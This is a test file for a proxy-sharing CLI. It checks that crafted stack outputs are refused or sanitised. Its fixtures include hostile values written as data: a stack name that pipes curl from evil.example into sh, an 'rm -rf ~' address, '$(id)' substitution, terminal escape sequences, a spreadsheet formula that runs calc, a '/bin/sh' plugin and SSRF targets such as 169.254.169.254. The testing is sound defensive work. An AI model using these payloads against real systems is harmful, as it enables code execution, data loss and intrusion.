import { mkdtempSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import { createServer, type AddressInfo, type Server } from "node:net";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { execFile } from "node:child_process";
import { promisify } from "node:util";
import { afterAll, describe, expect, it } from "vitest";
import { repoRoot } from "./support/fixtures";
import { baseFleet } from "./support/fixtures";
import { runCli, writeStack } from "./support/plan-cli";

// Crafted outputs and stack files, through the real CLI: what reaches the terminal, a printed
// command, a page or a CSV cell is neutralised, and what cannot be made safe is refused by name.
const work = mkdtempSync(join(tmpdir(), "lifeline-untrusted-"));
afterAll(() => rmSync(work, { recursive: true, force: true }));

const ssKey = (host: string, port: number, label: string) => `ss://${Buffer.from("chacha20-ietf-poly1305:Pw0123456789abcdef").toString("base64url")}@${host}:${port}#${label}`;

function node(i: number, extra: Record<string, unknown> = {}) {
  const address = `203.0.113.${i + 1}`;
  return {
    name: `do-fra1-${i}`,
    provider: "digitalocean",
    region: "fra1",
    size: "s-1vcpu-512mb-10gb",
    address,
    links: { shadowsocks: { transport: "encrypted", accessKey: ssKey(address, 8388, `fra1-${i}`) } },
    ...extra,
  };
}

function outputsFile(name: string, outputs: unknown): string {
  const path = join(work, `${name}.json`);
  writeFileSync(path, JSON.stringify(outputs));
  return path;
}

/** The CLI in a child process without blocking this one, so a listener here can count what it opens. */
async function runCliAsync(...args: string[]): Promise<{ code: number; stdout: string }> {
  try {
    const { stdout } = await promisify(execFile)(join(repoRoot, "node_modules", ".bin", "tsx"), [join(repoRoot, "src/cli/main.ts"), ...args], { cwd: repoRoot });
    return { code: 0, stdout };
  } catch (error) {
    const failed = error as { code: number; stdout: string };
    return { code: failed.code, stdout: failed.stdout };
  }
}

const noStackTrace = (text: string) => expect(text).not.toMatch(/\n\s+at /);
const noControls = (text: string) => expect(text).not.toMatch(/[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/);

describe("outputs files are untrusted input", () => {
  it("expired: a stack name carrying a shell command is refused, never printed as a command", () => {
    const file = outputsFile("bolat-cmd", { summary: { stack: "bolat; curl https://evil.example/x | sh #", expires: "2020-01-01" }, nodes: [node(0)] });
    const r = runCli("expired", "--outputs", file);
    expect(r.code).toBe(1);
    expect(r.stdout).toBe("");
    expect(r.stderr).toContain(`${file}: summary.stack: must be a Pulumi stack name: letters, digits, ".", "-" and "_" (optionally org/project/stack)`);
    expect(r.stderr).not.toContain("pulumi destroy");
    noStackTrace(r.stderr);
  });

  it("escape sequences: refused in a volunteer's name, stripped from a hostile links key printed in a warning", () => {
    const file = outputsFile("bolat-esc", { summary: { stack: "bolat", volunteer: "\u001b]0;owned\u0007Bolat\u001b[2J", expires: "2020-01-01" }, nodes: [node(0)] });
    const r = runCli("expired", "--outputs", file);
    expect(r.code).toBe(1);
    expect(r.stderr).toContain(`${file}: summary.volunteer: must not contain control characters, escape sequences or bidi marks`);
    noControls(r.stdout + r.stderr);
    // A hostile key of the links record is printed in a warning: the sequence goes, its text stays.
    const kind = outputsFile("kind-esc", { summary: { stack: "bolat", expires: "2020-01-01" }, nodes: [node(0, { links: { "\u001b[31mevil\u202e": {} } })] });
    const shared = runCli("share", "--outputs", kind, "--out", join(work, "kind-out"), "--per-page", "1", "--reserve", "0");
    noControls(shared.stdout + shared.stderr);
    expect(shared.stdout).toContain(`warning: ${kind}: nodes[0].links.evil: relay kind "evil" is not known to share; skipped`);
  });

  it("cost --csv: a volunteer's name that a spreadsheet would run as a formula gets a leading '", () => {
    writeStack(work, "formula", { ...baseFleet(), volunteer: "=1+2", budgetPerDay: 5, expires: "2099-01-01", groups: [{ provider: "digitalocean", regions: ["fra1"], nodesPerRegion: 1 }] });
    const file = outputsFile("at-formula", { summary: { stack: "atsign", volunteer: "@SUM(1+1)*cmd|' /C calc'!A0", expires: "2099-01-01" }, nodes: [node(0)] });
    const fromStack = runCli("cost", "--stacks", "formula", "--stacks-dir", work, "--csv");
    expect(fromStack.code).toBe(0);
    expect(fromStack.stdout.split("\n")[1]).toMatch(/^'=1\+2,formula,1,/);
    const fromOutputs = runCli("cost", "--outputs", file, "--csv");
    expect(fromOutputs.code).toBe(0);
    expect(fromOutputs.stdout.split("\n")[1]).toMatch(/^'@SUM\(1\+1\)\*cmd\|' \/C calc'!A0,atsign,1,/);
  });

  it("share: outline.json holds only the nodes on pages, with no plugin or unknown field", () => {
    const servers = [0, 1, 2].map((i) => ({ server: `203.0.113.${i + 1}`, server_port: 8388, password: "Pw0123456789abcdef", method: "chacha20-ietf-poly1305" }));
    // A server on no page, running a plugin, and an extra field on a real one.
    const sip008 = { version: 1, servers: [...servers.map((s) => ({ ...s, remarks: "x", plugin: "/bin/sh", plugin_opts: "-c id" })), { server: "198.51.100.66", server_port: 8388, password: "p", method: "chacha20-ietf-poly1305", plugin: "/bin/sh" }] };
    const file = outputsFile("plugin", { nodes: [0, 1, 2].map((i) => node(i)), documents: { shadowsocksSip008: JSON.stringify(sip008) } });
    const out = join(work, "plugin-out");
    const r = runCli("share", "--outputs", file, "--out", out, "--per-page", "2", "--reserve", "0");
    expect(r.stderr).toBe("");
    expect(r.code).toBe(0);
    const outline = JSON.parse(readFileSync(join(out, "outline.json"), "utf8"));
    expect(outline.servers.map((s: Record<string, unknown>) => Object.keys(s).sort())).toEqual([0, 1, 2].map(() => ["id", "method", "password", "remarks", "server", "server_port"]));
    expect(outline.servers.map((s: { server: string; remarks: string }) => `${s.server} ${s.remarks}`)).toEqual(["203.0.113.1 fra1-0", "203.0.113.2 fra1-1", "203.0.113.3 fra1-2"]);
    // A plugin smuggled into the access key itself is refused.
    const smuggled = outputsFile("plugin-link", { nodes: [node(0, { links: { shadowsocks: { transport: "encrypted", accessKey: `${ssKey("203.0.113.1", 8388, "")}`.replace("#", "/?plugin=obfs-local%3Bobfs%3Dhttp#") } } }), node(1)] });
    const refused = runCli("share", "--outputs", smuggled, "--out", join(work, "smuggled-out"), "--per-page", "1");
    expect(refused.code).toBe(1);
    expect(refused.stderr).toContain(`${smuggled}: nodes[0].links.shadowsocks.accessKey: is not a SIP002 link ss://USERINFO@HOST:PORT#LABEL`);
  });

  it("names every hostile field of a node: name, address, host, link", () => {
    const badNode = node(0, { name: "<script>alert(1)</script>", address: "203.0.113.1; rm -rf ~" });
    const badLinks = node(1, {
      links: {
        http: { transport: "plaintext", warning: "plain", host: "evil host", port: "99999", user: "u\u001b[0m", password: "p" },
        mtproto: { transport: "encrypted", telegram: "tg://proxy?server=$(id)&port=443", telegramWeb: "https://t.me/proxy?server=203.0.113.1&port=443" },
      },
    });
    const file = outputsFile("hostile-node", { nodes: [badNode, badLinks] });
    const r = runCli("share", "--outputs", file, "--out", join(work, "hostile-out"));
    expect(r.code).toBe(1);
    noControls(r.stderr);
    noStackTrace(r.stderr);
    for (const problem of [
      'nodes[0].name: must be one word of letters, digits, ".", "-" and "_" (at most 63), e.g. do-fra1-0',
      "nodes[0].address: must be an IPv4 or IPv6 address, e.g. 203.0.113.7",
      "nodes[1].links.http.host: must be an IP address or a host name",
      "nodes[1].links.http.port: must be a port number",
      "nodes[1].links.http.user: must be printable ASCII without spaces",
      "nodes[1].links.mtproto.telegram: must name a server (an IP address or host name) and a port from 1 to 65535, as tg://proxy?server=203.0.113.7&port=443&...",
    ]) {
      expect(r.stderr).toContain(`${file}: ${problem}`);
    }
  });
});

describe("check with untrusted outputs", () => {
  it("names a malformed %-escape in an access key plainly, per node, instead of crashing with URIError", () => {
    const bad = node(1, { links: { shadowsocks: { transport: "encrypted", accessKey: "ss://%E0%A4%A@203.0.113.2:8388#x" } } });
    const file = outputsFile("bad-escape", { nodes: [node(0), bad] });
    const r = runCli("check", "--outputs", file, "--timeout", "1");
    expect(r.code).toBe(1);
    expect(r.stdout).toBe("");
    expect(r.stderr).toBe(`1 problem in the stack outputs:\n  - ${file}: nodes[1].links.shadowsocks.accessKey: has a malformed %-escape in its user info\n`);
  });

  it("connects to no loopback or private address unless --allow-private is given", async () => {
    let connections = 0;
    const server: Server = createServer((socket) => {
      connections++;
      socket.destroy();
    });
    await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", () => resolve()));
    const port = (server.address() as AddressInfo).port;
    try {
      const links = (host: string) => ({ http: { transport: "plaintext", warning: "plain", host, port: String(port), user: "u", password: "p" } });
      const nodes = [
        { ...node(0), address: "127.0.0.1", links: links("127.0.0.1") },
        { ...node(1), address: "10.1.2.3", links: links("10.1.2.3") },
        { ...node(2), address: "100.64.0.1", links: links("100.64.0.1") },
        { ...node(3), address: "169.254.169.254", links: links("169.254.169.254") },
        { ...node(4), links: links("localhost") },
      ];
      const file = outputsFile("private", { nodes });
      const refused = await runCliAsync("check", "--outputs", file, "--timeout", "2", "--json");
      expect(refused.code).toBe(1);
      const details = JSON.parse(refused.stdout).links.map((l: { detail: string }) => l.detail);
      expect(details).toEqual(
        ["127.0.0.1", "10.1.2.3", "100.64.0.1", "169.254.169.254", "localhost"].map(
          (host) => `${host} is a loopback, private, link-local or shared (CGNAT) address: check connects there only with --allow-private`,
        ),
      );
      expect(connections).toBe(0);
      const allowed = await runCliAsync("check", "--outputs", outputsFile("loopback", { nodes: [nodes[0]] }), "--timeout", "2", "--allow-private", "--json");
      expect(JSON.parse(allowed.stdout).links[0].detail).not.toContain("--allow-private");
      expect(connections).toBe(1);
    } finally {
      server.close();
    }
  });
});
